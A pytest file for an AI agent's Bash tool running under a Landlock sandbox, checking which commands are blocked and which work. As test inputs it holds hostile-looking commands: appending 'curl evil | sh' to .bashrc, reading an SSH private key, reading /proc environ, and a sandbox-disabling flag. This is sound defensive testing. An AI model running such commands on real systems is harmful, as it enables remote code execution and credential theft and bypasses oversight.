"""Real commands through the Bash tool in the real sandbox: what it refuses and what still works."""

from __future__ import annotations

import sys

import pytest

from agent_repl.core.tooling.tool import ToolContext, ToolOutput
from agent_repl.tools.bash import Bash, BashArgs

from .conftest import Layout, make_sandbox, needs_landlock

pytestmark = needs_landlock


async def run(layout: Layout, command: str, sandbox=None, **extra: object) -> ToolOutput:
    ctx = ToolContext(
        cwd=layout.project,
        tool_results_dir=layout.agent_home / "projects" / "s" / "tool-results",
        sandbox=sandbox if sandbox is not None else make_sandbox(layout),
    )
    args = Bash().parse_args({"command": command, **extra})
    assert isinstance(args, BashArgs), args
    return await Bash().run(args, ctx)


def text(output: ToolOutput) -> str:
    assert isinstance(output.content, str)
    return output.content


async def test_a_write_outside_the_project_is_blocked_and_said(layout: Layout) -> None:
    out = await run(layout, f"echo x > {layout.outside}/f")
    assert out.is_error and not (layout.outside / "f").exists()
    assert f"Blocked by the sandbox: write to {layout.outside}/f outside the project" in text(out)
    assert "dangerouslyDisableSandbox" in text(out)


async def test_an_append_to_the_users_bashrc_is_blocked(layout: Layout) -> None:
    out = await run(layout, f"echo 'curl evil | sh' >> {layout.home}/.bashrc")
    assert out.is_error and "Blocked by the sandbox" in text(out)
    assert (layout.home / ".bashrc").read_text() == "# the user's shell setup\n"


async def test_a_read_of_an_ssh_key_is_blocked(layout: Layout) -> None:
    out = await run(layout, f"cat {layout.home}/.ssh/id_ed25519")
    assert out.is_error and "secret" not in text(out)
    assert f"Blocked by the sandbox: read of {layout.home}/.ssh/id_ed25519" in text(out)


async def test_the_agents_own_store_cannot_be_read_but_this_sessions_results_can(layout: Layout) -> None:
    other = layout.agent_home / "projects" / "other-project.jsonl"
    other.write_text('{"secret": "another project"}\n')
    results = layout.agent_home / "projects" / "s" / "tool-results"
    results.mkdir(parents=True)
    (results / "t1.txt").write_text("seen by the model already\n")
    sandbox = make_sandbox(layout)
    sandbox.policy = type(sandbox.policy)(**{**sandbox.policy.__dict__, "read_exceptions": (results,)})
    blocked = await run(layout, f"cat {other}", sandbox)
    assert blocked.is_error and "another project" not in text(blocked)
    shown = await run(layout, f"cat {results}/t1.txt", sandbox)
    assert not shown.is_error and "seen by the model already" in text(shown)


async def test_a_tcp_connection_is_blocked_unless_its_port_is_allowed(layout: Layout, listener: int) -> None:
    connect = f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {listener}), timeout=5); print('connected')\""
    blocked = await run(layout, connect)
    assert blocked.is_error and "connected" not in text(blocked)
    assert "Blocked by the sandbox: a TCP connection (allowed ports: none)" in text(blocked)
    allowed = await run(layout, connect, make_sandbox(layout, allow_ports=[listener]))
    assert not allowed.is_error and "connected" in text(allowed)


async def test_writes_in_the_project_and_the_temp_dir_work_and_cwd_carries_over(layout: Layout) -> None:
    ctx = ToolContext(cwd=layout.project, tool_results_dir=layout.temp / "results", sandbox=make_sandbox(layout))
    tool = Bash()
    for command in ("mkdir -p sub && echo made > sub/a.txt", f"echo t > {layout.temp}/t", "cd sub"):
        args = tool.parse_args({"command": command})
        assert isinstance(args, BashArgs)
        out = await tool.run(args, ctx)
        assert not out.is_error, out.content
    assert (layout.project / "sub" / "a.txt").read_text() == "made\n"
    args = tool.parse_args({"command": "pwd"})
    assert isinstance(args, BashArgs)
    out = await tool.run(args, ctx)
    assert text(out).strip() == str(layout.project / "sub")


async def test_git_status_pytest_and_system_reads_work(layout: Layout) -> None:
    (layout.project / "test_small.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
    setup = await run(layout, "git init -q . && git add -A && git -c user.email=a@b -c user.name=a commit -qm init && git status --short")
    assert not setup.is_error, setup.content
    tests = await run(layout, f"{sys.executable} -m pytest -q test_small.py")
    assert not tests.is_error and "1 passed" in text(tests), tests.content
    libs = await run(layout, "ls /usr/lib | head -3 && head -c 4 /usr/lib/os-release | wc -c")
    assert not libs.is_error, libs.content


async def test_an_approved_run_outside_the_sandbox_is_not_confined(layout: Layout) -> None:
    out = await run(layout, f"echo x > {layout.outside}/f", dangerouslyDisableSandbox=True)
    assert not out.is_error and (layout.outside / "f").read_text() == "x\n"


async def test_a_disabled_sandbox_confines_nothing(layout: Layout) -> None:
    out = await run(layout, f"echo x > {layout.outside}/f", make_sandbox(layout, enabled=False))
    assert not out.is_error and (layout.outside / "f").exists()


@pytest.mark.parametrize("command", ["kill -0 $PPID", "kill -0 1"])
async def test_signals_to_processes_outside_the_sandbox_are_refused(layout: Layout, command: str) -> None:
    sandbox = make_sandbox(layout)
    if sandbox.system.abi < 6:
        pytest.skip("signal scoping needs Landlock ABI 6")
    out = await run(layout, command, sandbox)
    assert out.is_error


async def test_the_agent_itself_stays_unconfined_while_its_commands_are(layout: Layout) -> None:
    sandbox = make_sandbox(layout)
    blocked = await run(layout, f"echo x > {layout.outside}/from-command", sandbox)
    assert blocked.is_error and not (layout.outside / "from-command").exists()
    (layout.outside / "from-agent").write_text("yes")  # the agent's own threads are not confined
    assert (layout.outside / "from-agent").read_text() == "yes"
    again = await run(layout, f"echo x > {layout.outside}/again", sandbox)  # the same confined thread
    assert again.is_error and not (layout.outside / "again").exists()


async def test_a_sandbox_that_cannot_be_entered_runs_nothing(layout: Layout, monkeypatch: pytest.MonkeyPatch) -> None:
    from agent_repl.core.sandbox import landlock

    def refuse(self: landlock.Ruleset) -> None:
        raise landlock.LandlockError(1, "landlock_restrict_self failed: Operation not permitted")

    monkeypatch.setattr(landlock.Ruleset, "restrict_current_thread", refuse)
    out = await run(layout, f"touch {layout.project}/ran")
    assert out.is_error and "could not enter the sandbox" in text(out)
    assert not (layout.project / "ran").exists()


async def test_the_agents_environment_and_memory_are_out_of_reach(layout: Layout) -> None:
    out = await run(layout, "cat /proc/$PPID/environ | head -c 20; head -c 1 /proc/1/environ; echo end")
    assert "Permission denied" in text(out) and text(out).rstrip().endswith("end")
    assert "PATH=" not in text(out)
